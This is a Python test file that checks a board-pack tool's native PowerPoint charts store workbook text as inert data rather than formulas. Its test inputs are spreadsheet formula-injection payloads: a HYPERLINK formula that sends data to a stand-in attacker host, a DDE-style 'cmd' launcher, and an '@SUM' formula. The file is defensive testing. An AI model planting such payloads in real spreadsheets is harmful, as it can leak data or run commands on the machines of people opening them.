"""Workbook text leaves the app as data only, never as a formula (issue 11, case 2): the
embedded workbook behind each native chart of `boardpack --native`."""
from __future__ import annotations

import io
import zipfile

from pptx import Presentation
from pptx.util import Inches

from analytics.boardpack.content import NativeChart, Series
from analytics.boardpack.native import add_native_chart

LINK = '=HYPERLINK("http://evil.example/?leak=1","Open")'


def embedded_workbooks(deck: bytes) -> list[bytes]:
    with zipfile.ZipFile(io.BytesIO(deck)) as package:
        return [package.read(n) for n in package.namelist() if n.startswith("ppt/embeddings/")]


def test_a_business_unit_formula_is_inert_in_the_charts_embedded_workbook() -> None:
    deck = Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[6])
    spec = NativeChart(
        kind="bar", categories=("Finance", LINK, "+cmd|' /C calc'!A0"),
        series=(Series(name="@SUM(1+1)", values=(3.0, 2.0, 1.0), color="#336699"),),
        number_format="0",
    )
    add_native_chart(slide, spec, Inches(1), Inches(1), Inches(6), Inches(4))
    out = io.BytesIO()
    deck.save(out)

    (workbook,) = embedded_workbooks(out.getvalue())
    with zipfile.ZipFile(io.BytesIO(workbook)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        strings = book.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    assert "'=HYPERLINK(" in strings.replace("&quot;", '"')
    assert "'+cmd" in strings and "'@SUM(1+1)" in strings and ">Finance<" in strings
